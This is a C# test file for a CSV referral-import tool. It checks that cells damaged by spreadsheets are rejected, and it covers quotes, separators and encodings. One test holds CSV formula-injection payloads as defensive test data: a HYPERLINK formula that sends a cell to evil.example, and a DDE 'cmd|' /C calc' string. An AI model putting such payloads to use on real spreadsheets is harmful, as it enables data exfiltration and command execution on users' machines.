using System.Text;
using Diversion.Local.Faults;
using Diversion.Local.Import;

namespace Diversion.Local.Tests.Import;

/// <summary>What spreadsheets do to files, and what files could do to spreadsheets.</summary>
public sealed class SpreadsheetTests : IDisposable
{
    private const string Damage = "looks as if a spreadsheet has changed it";

    private readonly ImportBench bench = new();

    public void Dispose() => bench.Dispose();

    [Theory]
    [InlineData("custody_reference", "2.60101E+11")]
    [InlineData("custody_reference", "2,60101e+11")]
    [InlineData("custody_reference", "#REF!")]
    [InlineData("name", "#NAME?")]
    [InlineData("name", "####")]
    [InlineData("offence", "#VALUE!")]
    [InlineData("born_on", "########")]
    [InlineData("offence_date", "#N/A")]
    [InlineData("officer_id", "4.412E+03")]
    public async Task A_cell_that_a_spreadsheet_has_spoilt_is_rejected(string column, string value)
    {
        var cells = ImportBench.Row().Split(',');
        cells[ImportBench.Headings.Split(',').ToList().IndexOf(column)] = value.Contains(',', StringComparison.Ordinal) ? $"\"{value}\"" : value;
        var report = await bench.Import(string.Join(',', cells));
        Assert.Contains(Assert.Single(report.Rejected).Faults, fault => fault.Column == column && fault.Reason.StartsWith(Damage, StringComparison.Ordinal));
        Assert.Equal(0, report.Added);
    }

    [Theory]
    [InlineData("phone", "4.47701E+11")]
    [InlineData("phone", "7700900123")]
    [InlineData("address", "#N/A")]
    public async Task So_is_one_of_a_column_that_may_be_empty(string column, string value)
    {
        var report = await bench.ImportText($"{ImportBench.Headings},{column}\n{ImportBench.Row()},{value}\n");
        Assert.StartsWith(Damage, Assert.Single(Assert.Single(report.Rejected).Faults).Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_date_that_has_become_a_number_is_rejected_with_advice()
    {
        var report = await bench.Import(ImportBench.Row(born: "34410"));
        Assert.Contains("34410 is a spreadsheet's number for a date", Assert.Single(Assert.Single(report.Rejected).Faults).Reason, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("+2")]
    [InlineData("\t=1+1")]
    public async Task A_rejected_cell_is_no_formula_and_comes_back_as_it_was(string name)
    {
        using var folder = new TemporaryFolder();
        var path = folder.Write("in.csv", $"{ImportBench.Headings},=cmd\n{ImportBench.Row("CR/1", name: $"\"{name}\"", date: "never")},x\n");
        var file = ReferralFile.Open(path);
        var report = await new ReferralImport(bench.Casework, bench.Clock).Run(file);
        var rejected = RejectedFile.PathFor(path);
        await RejectedFile.Write(rejected, file.Headings, report.Rejected);

        var text = File.ReadAllText(rejected);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
        Assert.Contains($"'{name}", text, StringComparison.Ordinal);
        File.WriteAllText(rejected, text.Replace(",never,", ",2026-10-02,", StringComparison.Ordinal));
        Assert.Equal(1, (await new ReferralImport(bench.Casework, bench.Clock).Run(ReferralFile.Open(rejected))).Added);
        Assert.Equal(name.Trim().Replace("\"\"", "\"", StringComparison.Ordinal), (await bench.Find("CR/1"))!.Referral.Person.Name);
    }

    [Fact]
    public async Task A_quote_that_is_never_closed_costs_its_own_line_alone()
    {
        var report = await bench.Import(
            ImportBench.Row("CR/1"), ImportBench.Row("CR/2", offence: "\"Theft"), ImportBench.Row("CR/3"), ImportBench.Row("CR/4"), ImportBench.Row("CR/5"));
        var rejected = Assert.Single(report.Rejected);
        Assert.Equal((4, 3), (report.Added, rejected.Line));
        Assert.StartsWith("lines 3 to 6 were read as one row: a quote is not closed", Assert.Single(rejected.Faults).Reason, StringComparison.Ordinal);
        Assert.Equal([ImportBench.Row("CR/2", offence: "\"Theft")], rejected.Cells);
    }

    [Fact]
    public async Task A_quote_that_another_row_closes_costs_its_own_line_alone()
    {
        var report = await bench.Import(
            ImportBench.Row("CR/1"), ImportBench.Row("CR/2", offence: "\"Theft"), ImportBench.Row("CR/3"), ImportBench.Row("CR/4", offence: "\"Theft, second\""), ImportBench.Row("CR/5"));
        Assert.Equal((4, 3), (report.Added, Assert.Single(report.Rejected).Line));
        Assert.Equal("Theft, second", (await bench.Find("CR/4"))!.Referral.Offence.Description);
    }

    [Fact]
    public async Task Several_open_quotes_and_blank_lines_keep_the_lines_right()
    {
        var report = await bench.ImportText(string.Join("\r\n",
            ImportBench.Headings, "", ImportBench.Row("CR/1", offence: "\"a"), ImportBench.Row("CR/2"), "", ImportBench.Row("CR/3", offence: "\"b"), ImportBench.Row("CR/4", date: "never"), ImportBench.Row("CR/5", offence: "\"two\r\nlines\"")));
        Assert.Equal([3, 6, 7], report.Rejected.Select(row => row.Line));
        Assert.Equal(2, report.Added);
        Assert.Equal("two lines", (await bench.Find("CR/5"))!.Referral.Offence.Description);
    }

    [Theory]
    [InlineData(';')]
    [InlineData('\t')]
    public async Task Semicolons_and_tabs_separate_cells_too(char separator)
    {
        var report = await bench.ImportText($"{ImportBench.Headings}\n{ImportBench.Row()}\n".Replace(',', separator));
        Assert.Equal(1, report.Added);
        Assert.Equal(1, (await bench.ImportText($"sep={separator}\n{ImportBench.Headings}\n{ImportBench.Row("CR/7")}\n".Replace(',', separator))).Added);
    }

    [Fact]
    public async Task Other_encodings_are_read_when_named_and_refused_when_they_do_not_match()
    {
        var text = $"{ImportBench.Headings}\n{ImportBench.Row("CR/1", name: "Zoë €")}\n";
        var windows = CodePagesEncodingProvider.Instance.GetEncoding(1252)!.GetBytes(text);
        Assert.Equal(1, (await bench.ImportBytes(windows, "windows-1252")).Added);
        Assert.Equal("Zoë €", (await bench.Find("CR/1"))!.Referral.Person.Name);
        Assert.Equal(1, (await bench.ImportBytes([0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)], "utf-16")).Present);
        Assert.Equal(1, (await bench.ImportBytes(Encoding.BigEndianUnicode.GetBytes(text), "utf-16")).Present);

        foreach (var (bytes, said, advice) in new (byte[], string, string)[]
        {
            (Encoding.UTF8.GetBytes(text), "windows-1252", "is UTF-8, not Windows-1252"),
            (Encoding.UTF8.GetBytes(text), "utf-16", "is not UTF-16"),
            (Encoding.Unicode.GetBytes(text), "utf-8", "--encoding utf-16"),
            (Encoding.Unicode.GetBytes(text), "windows-1252", "--encoding utf-16"),
        })
        {
            var told = await Assert.ThrowsAsync<CannotGoOnException>(() => bench.ImportBytes(bytes, said));
            Assert.Contains(advice, told.Message, StringComparison.Ordinal);
            Assert.EndsWith("Nothing was imported.", told.Message, StringComparison.Ordinal);
        }
    }
}
